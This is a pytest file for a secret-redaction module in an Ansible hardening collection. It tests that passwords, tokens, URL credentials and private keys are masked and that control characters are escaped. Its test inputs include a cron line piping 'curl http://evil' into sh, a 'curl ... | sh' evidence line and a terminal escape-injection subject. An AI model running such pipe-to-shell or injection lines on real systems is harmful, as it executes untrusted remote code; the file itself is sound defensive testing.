"""The one redaction gate (issue 17): every secret shape, never partially, applied centrally."""
import json

import pytest

from ansible_collections.hostguard.hardening.plugins.module_utils.core import redact as R
from ansible_collections.hostguard.hardening.plugins.module_utils.core.findings import CheckSet
from ansible_collections.hostguard.hardening.plugins.module_utils.core.area import Area
from ansible_collections.hostguard.hardening.plugins.module_utils.core.runner import run_areas
from ansible_collections.hostguard.hardening.plugins.module_utils.core.findings import area_result
from ansible_collections.hostguard.hardening.plugins.module_utils.oom import AREA as OOM
from procfixture import add_process, write

SECRET = "S3cr3tV4lue"

CASES = [
    ("app --password=%s --port 5" % SECRET, "app --password=<redacted> --port 5"),
    ("app --token %s --x" % SECRET, "app --token <redacted> --x"),
    ("app -secret %s" % SECRET, "app -secret <redacted>"),
    ("app --api-key=%s" % SECRET, "app --api-key=<redacted>"),
    ("app --db-credentials '%s x'" % SECRET, "app --db-credentials '<redacted> <redacted>'"),
    ("app --auth=\"%s\"" % SECRET, "app --auth=\"<redacted>\""),
    ("psql postgres://user:%s@db:5432/x" % SECRET, "psql postgres://user:<redacted>@db:5432/x"),
    ("git clone https://bob:%s@git.example/x.git" % SECRET,
     "git clone https://bob:<redacted>@git.example/x.git"),
    # a URL and a secret assignment in one token (hypothesis, compat run 2026-12-03): both go
    ("https://u:%s@hDB_PASSWORD=%s" % (SECRET, SECRET), "https://u:<redacted>@hDB_PASSWORD=<redacted>"),
    ("https://u:--password@hDB_PASSWORD=--password", "https://u:<redacted>@hDB_PASSWORD=<redacted>"),
    # the value of a harmless option holds the secret
    ("docker run --env=DB_PASSWORD=%s x" % SECRET, "docker run --env=DB_PASSWORD=<redacted> x"),
    ("docker run --env=\"DB_PASSWORD=%s %s\" x" % (SECRET, SECRET),
     "docker run --env=\"DB_PASSWORD=<redacted> <redacted>\" x"),
    ("app --url=https://u:%s@h/x --v" % SECRET, "app --url=https://u:<redacted>@h/x --v"),
    ("app --env=LANG=C --port=5", "app --env=LANG=C --port=5"),
    # session 8, found by comparing with the OOM recorder's redactor
    ("tool --header=Bearer %s" % SECRET, "tool --header=Bearer <redacted>"),
    ("git clone https://%s@github.com/x.git" % SECRET, "git clone https://<redacted>@github.com/x.git"),
    ("sshpass -p %s ssh h" % SECRET, "sshpass -p <redacted> ssh h"),
    ("sshpass -p%s ssh h" % SECRET, "sshpass -p<redacted> ssh h"),
    ("mysql -uroot -p%s db" % SECRET, "mysql -uroot -p<redacted> db"),
    ("/usr/bin/mysqldump -p %s db" % SECRET, "/usr/bin/mysqldump -p <redacted> db"),
    ("mariadb-dump --password=%s" % SECRET, "mariadb-dump --password=<redacted>"),
    ("curl -H 'Authorization: Bearer %s' http://x" % SECRET,
     "curl -H 'Authorization: Bearer <redacted>' http://x"),
    ("Authorization: Basic %s" % SECRET, "Authorization: Basic <redacted>"),
    ("authorization:%s" % SECRET, "authorization:<redacted>"),
    ("Bearer %s" % SECRET, "Bearer <redacted>"),
    ("curl -u bob:%s http://x" % SECRET, "curl -u bob:<redacted> http://x"),
    ("curl --user=bob:%s http://x" % SECRET, "curl --user=bob:<redacted> http://x"),
    ("DB_PASSWORD=%s API_TOKEN=%s APP_SECRET_KEY=%s ./run" % (SECRET, SECRET, SECRET),
     "DB_PASSWORD=<redacted> API_TOKEN=<redacted> APP_SECRET_KEY=<redacted> ./run"),
    ("Environment=\"A=1\" \"DB_PASSWORD=%s x\"" % SECRET,
     "Environment=\"A=1\" \"DB_PASSWORD=<redacted> <redacted>\""),
    ("Environment=MYSQL_PWD=%s" % SECRET, "Environment=MYSQL_PWD=<redacted>"),
    ("export K=AKIAABCDEFGHIJKLMNOP", "export K=<redacted>"),
    ("x ghp_abcdefghijklmnopqrstuvwxyz0123 y", "x <redacted> y"),
    ("x github_pat_11ABCDEFG0123456789_abcdefghij y", "x <redacted> y"),
    ("x xoxb-123456-abcdef y", "x <redacted> y"),
    ("x glpat-abcdefghij0123456789 y", "x <redacted> y"),
    ("requirepass %s" % SECRET, "requirepass <redacted>"),
    ("masterauth %s" % SECRET, "masterauth <redacted>"),
    ("redis-cli -a %s ping" % SECRET, "redis-cli -a <redacted> ping"),
    ("AUTH %s" % SECRET, "AUTH <redacted>"),
    ("password: %s" % SECRET, "password: <redacted>"),
    ("password = %s" % SECRET, "password = <redacted>"),
    ("-----BEGIN RSA PRIVATE KEY----- MIIEabc def -----END RSA PRIVATE KEY-----",
     "-----BEGIN RSA PRIVATE KEY----- <redacted> <redacted> -----END RSA PRIVATE KEY-----"),
]
UNTOUCHED = [
    "PWD=/home/x ls", "0 * * * * root curl http://evil | sh", "redis-server *:6379",
    "no password set", "PasswordAuthentication yes", "kernel.kptr_restrict = 2",
    "/usr/sbin/sshd -D", "https://example.org/path?x=1", "ls -la /tmp",
    "git clone ssh://git@github.com/x.git", "rsync -a rsync://backup@host/x /y",
]


@pytest.mark.parametrize("text,expected", CASES)
def test_redact_cases(text, expected):
    assert R.redact(text) == expected
    assert SECRET not in R.redact(text)
    assert R.redact(R.redact(text)) == R.redact(text)  # idempotent


@pytest.mark.parametrize("text", UNTOUCHED)
def test_not_secrets_are_untouched(text):
    assert R.redact(text) == text


def test_argv_list_keeps_context():
    assert R.sanitize_value(["mysql", "--password", SECRET, "-p" + SECRET]) == \
        ["mysql", "--password", "<redacted>", "-p<redacted>"]
    assert R.sanitize_value({"argv": ["app", "--token", SECRET]}) == \
        {"argv": ["app", "--token", "<redacted>"]}


def test_controls_and_bidi_escaped():
    text = "a\x1b[31mb\rc\u202ed\u2066e\x00f\x9bg\n"
    out = R.escape_controls(text)
    assert out == "a\\x1b[31mb\\x0dc\\u202ed\\u2066e\\x00f\\x9bg\n"
    assert R.escape_controls(text, keep_newlines=False).endswith("g\\x0a")
    assert R.escape_controls(out) == out


CHECKS = CheckSet(area="demo", prefix="HG-DEMO")
DEMO = CHECKS.define("HG-DEMO-001", "demo", "high", reads="x", remediation="y")


def test_check_result_gates_subject_evidence_detail():
    finding = DEMO.fail("/etc/cron.d/x\x1b]0;pwned\x07\n",
                        {"line": "curl -u bob:%s http://x | sh" % SECRET,
                         "argv": ["app", "--password", SECRET],
                         "long": "x " * 600 + "--token " + SECRET},
                        detail="ran with DB_PASSWORD=%s" % SECRET)
    text = json.dumps(finding)
    assert SECRET not in text
    assert finding["subject"] == "/etc/cron.d/x\\x1b]0;pwned\\x07\\x0a"
    assert finding["evidence"]["argv"] == ["app", "--password", "<redacted>"]


def test_secret_cut_by_the_evidence_bound_is_not_shown_partially():
    token = "ghp_" + "A" * 40
    finding = DEMO.fail("s", {"line": "x" * 505 + " " + token})
    assert "ghp_" not in json.dumps(finding) and "AAAA" not in json.dumps(finding)


def _leaky_audit(params):
    finding = dict(DEMO.fail("s"))
    finding["subject"] = "app --password=" + SECRET   # built by hand: not through the gate
    return area_result([finding], {"cmdline": ["app", "--token", SECRET],
                                   "env": "AWS_SECRET_ACCESS_KEY=" + SECRET})


def test_runner_gates_what_an_area_forgot():
    area = Area(name="demo", prefix="HG-DEMO", title="demo", options={}, checks=CHECKS,
                audit=_leaky_audit)
    out = run_areas({"demo": {}}, root="/", registry={"demo": area})
    assert SECRET not in json.dumps(out)
    assert out["facts"]["demo"]["cmdline"] == ["app", "--token", "<redacted>"]


def test_oom_likely_victims_cmdline_redacted(tmp_path):
    """Issue 17's report: a live process with --password/--token/URL userinfo in likely_victims."""
    root = str(tmp_path)
    add_process(root, 100, "java", rss_kib=900000,
                cmdline=["java", "--password=" + SECRET + "1", "--token", SECRET + "2",
                         "postgres://u:" + SECRET + "3@db/x", "-Dx=" + "y" * 150,
                         "ghp_" + "Z" * 36])
    write(root, "/proc/meminfo", "MemTotal: 1000000 kB\nMemAvailable: 500000 kB\n")
    result = OOM.run({"root": root, "use_systemctl": "no"})
    out = run_areas({"oom": dict(OOM.validate({"use_systemctl": "no"}, root=root)[0])},
                    root=root, registry={"oom": OOM})
    for blob in (json.dumps(result), json.dumps(out)):
        assert SECRET not in blob and "ZZZZ" not in blob
    assert "<redacted>" in json.dumps(result["facts"]["likely_victims"])


def test_redaction_survives_adversarial_input():
    """Long runs of each trigger atom (one token or many): no crash, nothing leaks."""
    for atom in ("--password ", "a=", "-p", "https://a:b@", "Authorization: ", "xoxb-",
                 "ghp_", "\"", "-----BEGIN "):
        small = R.redact(atom * (10000 // len(atom)))
        big = R.redact(atom * ((1 << 18) // len(atom)))
        assert SECRET not in small + big
        assert len(big) <= 12 * (1 << 18)


def test_empty_value_after_an_assignment_found_by_hypothesis():
    """A secret-named assignment with nothing after '=' (the value token is empty)."""
    text = "x --password Zq9Secretvalue7 --token--token--tokenDB_PASSWORD="
    assert "Zq9Secretvalue7" not in R.redact(text)
    assert R.redact("DB_PASSWORD=") == "DB_PASSWORD="


def test_memoised_redaction_hands_out_fresh_lists_and_same_verdicts():
    """redact_tokens is memoised: a caller that mutates the list it got must not change what
    the next caller of the same tokens gets, and a remembered result is the computed one."""
    tokens = ["redis-cli", "-a", "hunter2", "ping"]
    first = R.redact_tokens(tokens)
    assert first == ["redis-cli", "-a", R.REDACTED, "ping"]
    first[2] = "hunter2"
    assert R.redact_tokens(tokens) == ["redis-cli", "-a", R.REDACTED, "ping"]
    assert R.redact("requirepass s3cret") == R.redact("requirepass s3cret") == "requirepass <redacted>"
